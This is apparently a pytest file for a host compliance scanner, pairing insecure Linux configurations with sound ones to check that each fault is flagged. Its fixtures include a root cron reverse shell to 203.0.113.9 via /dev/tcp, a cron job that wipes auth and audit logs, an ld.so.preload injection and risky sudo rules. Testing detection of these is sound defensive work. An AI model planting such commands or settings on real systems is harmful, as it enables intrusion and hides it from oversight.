"""Faults of what reaches a host and of what keeps it sound; sound ones beside them.

Daemons by their own settings, sources of time and of programs, what root is told to run. Places and
flags that only the script sees are in one root of their own, collected once.
"""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path

import pytest

from detections.compliance.assets.asset import AssetEvidence
from detections.compliance.assets.host.host import read_host
from detections.compliance.assets.judging import judge_asset
from fengsui.control import Conformity
from tests.detections.compliance.assets.conftest import (
    TODAY,
    changed,
    collect,
    debian,
    passwd,
    shadow,
    write,
)

FAILS = {Conformity.PARTLY, Conformity.DOES_NOT}
WANTS = "/etc/systemd/system/multi-user.target.wants"
DROP_IN = "/etc/ssh/sshd_config.d/00-a.conf"
SUDO = "/etc/sudoers"


def starts(unit: str, command: str = "") -> dict[str, str]:
    """A unit that starts; with a command, one of this host's own."""
    own = {f"/etc/systemd/system/{unit}": f"[Service]\nExecStart={command}\n"} if command else {}
    return {f"{WANTS}/{unit}": f"-> /etc/systemd/system/{unit}", **own}


BARE = (
    "table inet f {\n chain input {\n  type filter hook input priority 0; policy drop;\n"
    "  ct state established,related accept\n  tcp dport 22 accept\n }\n}\n"
)
FAULTS: dict[str, tuple[str, Mapping[str, str]]] = {
    "Elasticsearch that asks nobody": ("01", starts("elasticsearch.service") | {
        "/etc/elasticsearch/elasticsearch.yml": "network.host: 0.0.0.0\nxpack.security.enabled: false\n"}),
    "no tables of rights": ("01", starts("mariadb.service") | {
        "/etc/my.cnf": "[client]\nx=1\n[mysqld]\nskip-grant-tables\n"}),
    "PostgreSQL that believes": ("01", starts("postgresql.service") | {
        "/etc/postgresql/15/main/pg_hba.conf": "local all all peer\nhost all all 0.0.0.0/0 trust\n"}),
    "VNC without a word": ("01", starts("screen.service", "/usr/bin/Xvnc :1 -SecurityTypes None")),
    "VNC in clear": ("03", starts("screen.service", "/usr/bin/Xvnc :1 -SecurityTypes VncAuth")),
    "Telnet by another name": ("03", starts("old.service", "/usr/sbin/in.telnetd -debug 2323")),
    "directory in clear": ("03", starts("nslcd.service") | {
        "/etc/nslcd.conf": "uri ldap://10.0.0.5/\nbase dc=x\n"}),
    "CBC": ("03", {DROP_IN: "Ciphers aes256-ctr,aes128-cbc\n"}),
    "no method asked": ("01", {DROP_IN: "AuthenticationMethods none\n"}),
    "dropbear": ("02", starts("dropbear.service")),
    "relay": ("18", starts("postfix.service") | {"/etc/postfix/main.cf": "mynetworks = 0.0.0.0/0\n"}),
    "proxy": ("18", starts("squid.service") | {"/etc/squid/squid.conf": "http_access allow all\n"}),
    "zone trusted": ("18", starts("firewalld.service") | {
        "/etc/firewalld/firewalld.conf": "DefaultZone=trusted\n"}),
    "memory as it always was": ("18", {"/etc/sysctl.d/60-a.conf": "kernel.randomize_va_space = 0\n"}),
    "old TLS": ("27", starts("nginx.service") | {
        "/etc/nginx/nginx.conf": "http { ssl_protocols TLSv1 TLSv1.2; }\n"}),
    "factory user": ("06", {
        "/etc/tomcat9/tomcat-users.xml": '<user username="tomcat" word=FACTORY roles="manager-gui"/>\n'}),
    "every address by name": ("19", {DROP_IN: "AllowUsers ops@* sec@10.0.0.1\n"}),
    "hosts.allow for all": ("19", {"/etc/hosts.allow": "ALL: ALL\n"}),
    "time without a source": ("13", starts("chrony.service") | {
        "/etc/chrony/chrony.conf": "local stratum 1\ndriftfile /var/lib/chrony/drift\n"}),
    "unsigned source": ("21", {
        "/etc/apt/sources.list.d/x.list": "deb [arch=amd64 trusted=yes] http://10.0.0.3/d x main\n"}),
    "unsigned repository": ("21", {"/etc/yum.repos.d/x.repo": "[x]\nbaseurl=http://r/\ngpgcheck=0\n"}),
    "shell for a stranger": ("23", {
        "/etc/cron.d/x": "* * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"}),
    "library forced in": ("23", {"/etc/ld.so.preload": "/usr/lib/libx.so\n"}),
    "password in a table": ("28", {"/etc/fstab": "//h/s /mnt cifs user=ops,password=REDACTED\n"}),
    "etcd by its environment": ("01", starts("etcd.service") | {
        "/etc/etcd/etcd.conf": 'ETCD_LISTEN_CLIENT_URLS="http://0.0.0.0:2379"\n'}),
    "job that empties logs": ("14", {
        "/etc/cron.d/x": "0 3 * * * root cat /dev/null > /var/log/secure; rm -f /var/log/audit/*\n"}),
    "journal of an hour": ("14", {"/etc/cron.d/x": "@daily root journalctl --vacuum-time=1h\n"}),
    "program from here": ("10", {"/etc/profile.d/p.sh": "export PATH=.:$PATH\n"}),
    "SSH for every address": ("19", starts("nftables.service") | {"/etc/nftables.conf": BARE}),
    "SSH for every address, saved": ("19", starts("netfilter-persistent.service") | {
        "/etc/iptables/rules.v4": "*filter\n:INPUT DROP [0:0]\n"
        "-A INPUT -p tcp -m state --state NEW -m tcp --dport 22 -j ACCEPT\nCOMMIT\n"}),
    "polkit says yes": ("08", {
        "/etc/polkit-1/rules.d/x.rules": "polkit.addRule(function(a, s) { return polkit.Result.YES; });\n"}),
    "pager as root": ("08", {SUDO: "sec ALL=(root) NOPASSWD: /usr/bin/less /var/log/*\n"}),
    "any argument": ("08", {SUDO: "sec ALL=(root) NOPASSWD: /bin/chown *\n"}),
    "program of a home": ("08", {SUDO: "sec ALL=(root) NOPASSWD: /home/sec/fix.sh\n"}),
    "library kept by sudo": ("08", {SUDO: 'ops ALL=(ALL) ALL\nDefaults env_keep += "LD_PRELOAD"\n'}),
    "socket for all": ("08", starts("docker.service") | {
        "/etc/systemd/system/docker.socket.d/o.conf": "[Socket]\nSocketMode=0666\n"}),
    "silent when lost": ("12", {"/etc/audit/rules.d/99.rules": "-f 0\n"}),
    "logins thrown away": ("12", {
        "/etc/rsyslog.conf": ':programname, isequal, "sshd" stop\n*.* @@10.0.0.9\n'}),
    "sent to itself": ("14", {
        "/etc/rsyslog.conf": "auth,authpriv.* /var/log/secure\n*.* @127.0.0.1:514\n",
        "/etc/logrotate.conf": "weekly\nrotate 4\ninclude /etc/logrotate.d\n"}),
    "little room": ("14", {
        "/etc/audit/auditd.conf": "max_log_file = 1\nnum_logs = 2\nmax_log_file_action = ROTATE\n"}),
}  # fmt: skip
SOUND: dict[str, Mapping[str, str]] = {
    "etcd with certificates": starts("etcd.service") | {
        "/etc/etcd/etcd.conf": 'ETCD_LISTEN_CLIENT_URLS="https://0.0.0.0:2379,http://127.0.0.1:2379"\n'},
    "job with a log of its own": {
        "/etc/cron.d/x": "0 3 * * * root /opt/a.sh > /var/log/a.log; rm -f /var/log/app/old-*\n"
        "0 4 * * * root journalctl --vacuum-time=200d\n"},
    "program of ours": {"/etc/profile.d/p.sh": "export PATH=/opt/a.b/bin:$PATH\n"},
    "SSH for every address, told apart by sshd": starts("nftables.service") | {
        "/etc/nftables.conf": BARE, DROP_IN: "AllowUsers ops@10.20.0.0/27\n"},
    "SSH for managers": starts("nftables.service") | {
        "/etc/nftables.conf": BARE.replace("tcp dport", "ip saddr 10.20.0.0/27 tcp dport")},
    "Elasticsearch here": starts("elasticsearch.service") | {
        "/etc/elasticsearch/elasticsearch.yml": "network.host: _local_\nxpack.security.enabled: false\n"},
    "trust on this machine": starts("postgresql.service") | {
        "/etc/postgresql/15/main/pg_hba.conf": "host all all 127.0.0.1/32 scram-sha-256\n"},
    "VNC here": starts("screen.service", "/usr/bin/Xvnc :1 -localhost -SecurityTypes VncAuth"),
    "directory by TLS": starts("nslcd.service") | {
        "/etc/nslcd.conf": "uri ldap://10.0.0.5/\nssl start_tls\n"},
    "CBC with the MAC outside": {
        DROP_IN: "Ciphers aes256-ctr,aes128-cbc\nMACs hmac-sha2-256-etm@openssh.com\n"},
    "policy of the vendor": {
        "/etc/crypto-policies/back-ends/opensshserver.config": "CRYPTO_POLICY='-oCiphers=aes256-cbc'\n"},
    "dropbear for keys": starts("dropbear.service") | {
        "/etc/default/dropbear": 'DROPBEAR_EXTRA_ARGS="-s"\n'},
    "a later file wins": {
        "/etc/sysctl.d/10-a.conf": "kernel.randomize_va_space = 0\n",
        "/etc/sysctl.d/90-b.conf": "kernel.randomize_va_space = 2\n"},
    "modern TLS": starts("apache2.service") | {
        "/etc/apache2/mods-enabled/ssl.conf": "SSLProtocol all -SSLv3 -TLSv1 -TLSv1.1\n"},
    "narrow addresses": {DROP_IN: "AllowUsers ops@10.20.0.*\n", "/etc/hosts.allow": "sshd: 10.20.0.\n"},
    "time by a file of sources": starts("chrony.service") | {
        "/etc/chrony/chrony.conf": "sourcedir /etc/chrony/sources.d\n",
        "/etc/chrony/sources.d/a.sources": "server 10.0.0.8 iburst\n"},
    "signed source": {
        "/etc/apt/sources.list.d/x.list": "deb [signed-by=/k.gpg] https://r/d x main\n",
        "/etc/yum.repos.d/x.repo": "[x]\nenabled=0\ngpgcheck=0\n[m]\nbaseurl=file:///mnt\ngpgcheck=0\n"},
    "job that fetches": {"/etc/cron.d/x": "* * * * * root curl -fsS https://hc.gov/1 >/dev/null\n"},
    "polkit for one act": {
        "/etc/polkit-1/rules.d/x.rules": "polkit.addRule(function(action, s) {\n if (action.id == 'x')"
        " { return polkit.Result.YES; }\n});\n"},
    "pager without a shell": {SUDO: "sec ALL=(root) NOEXEC: NOPASSWD: /usr/bin/less /var/log/x\n"},
    "arguments named": {SUDO: "sec ALL=(root) NOPASSWD: /usr/bin/systemctl restart nginx\n"},
    "kept before it is thrown away": {
        "/etc/rsyslog.conf": '*.* @@10.0.0.9\n:programname, isequal, "sshd" stop\n'},
}  # fmt: skip


@pytest.mark.parametrize("name", FAULTS)
def test_fault_is_named(bases: dict[str, AssetEvidence], name: str) -> None:
    unit, files = FAULTS[name]
    findings = judge_asset(changed(bases["debian"], files, {}))
    assert f"L3-CES1-{unit}" in {one.check.unit for one in findings if one.verdict in FAILS}


@pytest.mark.parametrize("name", SOUND)
def test_sound_is_not(bases: dict[str, AssetEvidence], name: str) -> None:
    findings = judge_asset(changed(bases["debian"], SOUND[name], {}))
    assert [(f.check.unit, f.reason().render("en")) for f in findings if f.verdict in FAILS] == []


def test_what_only_the_script_sees(tmp_path: Path) -> None:
    """Copied hashes, shells under other names, keys and folders that are too wide; no secret is taken."""
    other, third = "$6$salt$" + "b" * 86, "$6$salt$" + "c" * 86
    line = f":{TODAY - 10}:1:90:7:::"
    files = debian({
        "etc/passwd": passwd("li:x:1002:1002::/home/li:/bin/bash\n"),
        "etc/shadow": shadow(ops=other + line, sec=other + line) + f"li:{third}{line}\n",
        "usr/bin/bash": "#!shell\n", "usr/local/bin/tool": "#!shell\n",
        "home/ops/.ssh/id_rsa": "PRIVATE\n", "opt/app/x": "x\n",
        "home/ops/.pgpass": "*:*:*:app:hidden-word\n",
        "etc/tomcat9/tomcat-users.xml": '<user username="a" password="s3cret-of-a"/>\n',
        "etc/apt/apt.conf.d/p": 'Acquire::http::Proxy "http://u:hidden-word@10.0.0.1";\n',
        "etc/squid/squid.conf": "cachemgr_passwd hidden-word all\n",
    })  # fmt: skip
    modes = {"usr/local/bin/tool": 0o4755, "home/ops/.ssh/id_rsa": 0o644, "opt/app": 0o777}
    out = collect(write(tmp_path / "root", files, modes), tmp_path / "host.tar.gz")
    asset = read_host(out)
    facts = [
        f
        for one in judge_asset(asset)
        for step in one.steps
        if step.state is False
        for f in step.facts
    ]
    named = {(fact.name, str(fact.value), fact.source) for fact in facts}
    assert ("same_password", "sec=ops", "/etc/shadow:3") in named
    wide = {source for name, _, source in named if name == "mode"}
    assert {"/usr/local/bin/tool", "/home/ops/.ssh/id_rsa", "/home/ops/.pgpass", "/opt/app"} <= wide
    texts = "\n".join(asset.facts.tree.texts.values())  # type: ignore[attr-defined]
    assert not any(word in texts for word in ("s3cret-of-a", "hidden-word", "b" * 20))


def test_a_template_of_one_hash_says_nothing(bases: dict[str, AssetEvidence]) -> None:
    line = f":hash/6:{TODAY - 10}:1:90:7:::"
    text = f"root{line}\nops{line}:same=root\nsec{line}:same=root\n"
    findings = judge_asset(changed(bases["debian"], {"/etc/shadow": text}, {}))
    assert not any(f.verdict in FAILS for f in findings)


def test_vendors_files_count_where_the_host_has_none_of_its_own(tmp_path: Path) -> None:
    """SUSE keeps what it brings in /usr/etc and /usr/lib/pam.d (pam.d(5)); sshd reads it from there."""
    files = debian({
        "etc/ssh/sshd_config": None, "etc/ssh/sshd_config.d/10-x.conf": None, "etc/pam.d/sshd": None,
        "usr/etc/ssh/sshd_config": "PermitRootLogin yes\nUsePAM yes\n",
        "usr/lib/pam.d/sshd": "auth required pam_unix.so\naccount required pam_unix.so\n",
    })  # fmt: skip
    findings = judge_asset(
        read_host(collect(write(tmp_path / "root", files), tmp_path / "h.tar.gz"))
    )
    failed = {(f.check.unit, s.name) for f in findings for s in f.steps if s.state is False}
    assert {("L3-CES1-05", "root_remote"), ("L3-CES1-02", "lock_there")} <= failed
